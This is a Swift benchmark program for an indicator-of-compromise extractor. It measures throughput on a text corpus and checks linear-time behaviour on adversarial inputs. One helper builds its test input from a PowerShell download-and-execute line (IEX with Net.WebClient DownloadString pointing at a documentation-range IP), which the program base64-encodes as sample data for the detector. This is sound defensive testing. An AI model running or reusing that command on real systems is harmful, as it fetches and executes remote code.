// Release benchmark for ObservableExtractor: MB/s on the shared corpus's text files (one core, median
// of repeats), counts per observable type, and hostile inputs at 1 MB and 10 MB to show linear time.
//
// It also writes the corpus it measured, so Benchmarks/peers/ioc-finder.sh reads the same bytes:
//   <out>/extract-corpus.txt    every text file of the corpus, each followed by a newline
//   <out>/extract-corpus.files  the absolute path of each of those files, one a line, same order
//   <out>/extract-values.tsv    what Riposte extracted from the corpus: type<TAB>value, first-seen order
//
// Usage: ExtractorBenchmark [--repeats N] [--out DIR] [--no-hostile]
// Times are the benchmark thread's CPU time; wall-clock medians and the load average are printed beside them.
import Foundation
import RiposteCore
import RiposteTesting

// MARK: - Options

let arguments = BenchmarkArguments(
    usage: "ExtractorBenchmark [--repeats N] [--out DIR] [--no-hostile]", flags: ["--repeats", "--out"],
    switches: ["--no-hostile"])
let repeats = arguments.int("--repeats", default: 9)
let outDirectory = arguments.string("--out") ?? ".build"
let hostile = !arguments.has("--no-hostile")

// MARK: - Measuring

struct Measurement {
    var extraction: ObservableExtractor.Extraction
    var cpuSeconds: Double
    var wallSeconds: Double
}

/// Extracts from `bytes` `runs` times; the medians of CPU and wall time, and the last extraction.
func measure(_ bytes: [UInt8], runs: Int) -> Measurement {
    var cpu: [Double] = []
    var wall: [Double] = []
    var last: ObservableExtractor.Extraction?
    for _ in 0..<runs {
        let stopwatch = Stopwatch()
        let extraction = ObservableExtractor.extraction(inUTF8: bytes)
        cpu.append(stopwatch.cpu)
        wall.append(stopwatch.wall)
        last = extraction
    }
    return Measurement(extraction: last!, cpuSeconds: median(cpu), wallSeconds: median(wall))
}

func megabytesPerSecond(_ count: Int, _ seconds: Double) -> String {
    String(format: "%.1f", Double(count) / 1e6 / max(seconds, 1e-9))
}

func countsByType(_ observables: [ObservableDraft]) -> String {
    let counts = Dictionary(grouping: observables, by: \.type).mapValues(\.count)
    return ObservableType.allCases.map { "\($0.rawValue) \(counts[$0] ?? 0)" }.joined(separator: ", ")
}

// MARK: - Corpus

let files: [String]
let root: URL
do {
    files = try Corpus.textFiles()
    root = try Corpus.root()
} catch {
    FileHandle.standardError.write(Data("ExtractorBenchmark: \(error)\n".utf8))
    exit(1)
}
var corpus: [UInt8] = []
var paths: [String] = []
for file in files {
    let url = root.appendingPathComponent(file)
    guard let data = FileManager.default.contents(atPath: url.path) else {
        FileHandle.standardError.write(Data("ExtractorBenchmark: cannot read \(url.path)\n".utf8))
        exit(1)
    }
    corpus += data
    corpus.append(UInt8(ascii: "\n"))
    paths.append(url.standardizedFileURL.path)
}

let corpusRun = measure(corpus, runs: repeats)
let found = corpusRun.extraction.observables

do {
    try FileManager.default.createDirectory(atPath: outDirectory, withIntermediateDirectories: true)
    try Data(corpus).write(to: URL(fileURLWithPath: outDirectory + "/extract-corpus.txt"))
    try Data((paths.joined(separator: "\n") + "\n").utf8).write(
        to: URL(fileURLWithPath: outDirectory + "/extract-corpus.files"))
    let values = found.map { "\($0.type.rawValue)\t\($0.value)\n" }.joined()
    try Data(values.utf8).write(to: URL(fileURLWithPath: outDirectory + "/extract-values.tsv"))
} catch {
    FileHandle.standardError.write(Data("ExtractorBenchmark: cannot write to \(outDirectory): \(error)\n".utf8))
    exit(1)
}

let corpusRate = Double(corpus.count) / 1e6 / corpusRun.cpuSeconds
print("ExtractorBenchmark: corpus of \(files.count) text files, \(corpus.count) bytes (\(outDirectory)/extract-corpus.txt)")
print("  load average \(loadAverage()) on \(ProcessInfo.processInfo.activeProcessorCount) cores; \(repeats) runs each")
print(
    "  corpus: \(megabytesPerSecond(corpus.count, corpusRun.cpuSeconds)) MB/CPU-s (median), "
        + "\(megabytesPerSecond(corpus.count, corpusRun.wallSeconds)) MB/wall-s; target ≥ 50 MB/s: "
        + (corpusRate >= 50 ? "PASS" : "FAIL"))
print("  found \(found.count): \(countsByType(found))")
print(
    "  base64 runs decoded to text \(corpusRun.extraction.decodedRuns) (\(corpusRun.extraction.decodedBytes) bytes); "
        + String(format: "work %.2f bytes read per input byte", Double(corpusRun.extraction.work) / Double(corpus.count)))

// MARK: - Hostile inputs

/// Repeats `unit` (or a seeded random stream over it) to `count` bytes.
struct Hostile {
    var name: String
    var make: (Int) -> [UInt8]
}

func repeated(_ unit: String, _ count: Int) -> [UInt8] {
    let unit = Array(unit.utf8)
    var bytes: [UInt8] = []
    bytes.reserveCapacity(count)
    while bytes.count < count { bytes += unit }
    return Array(bytes.prefix(count))
}

func random(over alphabet: String, _ count: Int, seed: UInt64) -> [UInt8] {
    let alphabet = Array(alphabet.utf8)
    var random = SplitMix64(seed: seed)
    return (0..<count).map { _ in alphabet[Int(random.next() % UInt64(alphabet.count))] }
}

/// Base64 of text, as one line: the case where every run decodes and is scanned (up to the caps).
func base64OfText(_ count: Int) -> [UInt8] {
    let text = Array("powershell IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1') ".utf8)
    var plain: [UInt8] = []
    while plain.count < count / 4 * 3 { plain += text }
    return Array(Data(plain.prefix(count / 4 * 3)).base64EncodedData())
}

let base64Alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
let hostileInputs: [Hostile] = [
    Hostile(name: "one random base64 line") { random(over: base64Alphabet, $0, seed: 1) },
    Hostile(name: "one base64 line of text") { base64OfText($0) },
    Hostile(name: "dots") { repeated(".", $0) },
    Hostile(name: "'a@' repeated") { repeated("a@", $0) },
    Hostile(name: "random digits and colons") { random(over: "0123456789:", $0, seed: 2) },
    Hostile(name: "random hex, dots, colons") { random(over: "0123456789abcdef.:", $0, seed: 3) },
    Hostile(name: "'x[.]' repeated") { repeated("x[.]", $0) },
    Hostile(name: "'http://' repeated") { repeated("http://", $0) },
    Hostile(name: "QP soft breaks, 75-char lines") { repeated(String(repeating: "a", count: 74) + "=\n", $0) },
]

if hostile {
    print()
    let header = "input".padding(toLength: 32, withPad: " ", startingAt: 0)
    print("\(header)  MB/s 1 MB   MB/s 10 MB   time 10 MB / 1 MB   work/byte 10 MB   found 10 MB")
    for input in hostileInputs {
        let small = input.make(1_000_000)
        let large = input.make(10_000_000)
        let smallRun = measure(small, runs: 5)
        let largeRun = measure(large, runs: 3)
        let name = input.name.padding(toLength: 32, withPad: " ", startingAt: 0)
        let columns = [
            megabytesPerSecond(small.count, smallRun.cpuSeconds).leftPadded(10),
            megabytesPerSecond(large.count, largeRun.cpuSeconds).leftPadded(12),
            String(format: "%.1f", largeRun.cpuSeconds / max(smallRun.cpuSeconds, 1e-9)).leftPadded(19),
            String(format: "%.2f", Double(largeRun.extraction.work) / Double(large.count)).leftPadded(17),
            String(largeRun.extraction.observables.count).leftPadded(13),
        ]
        print(name + columns.joined(separator: " "))
    }
}

extension String {
    func leftPadded(_ width: Int) -> String {
        count >= width ? self : String(repeating: " ", count: width - count) + self
    }
}
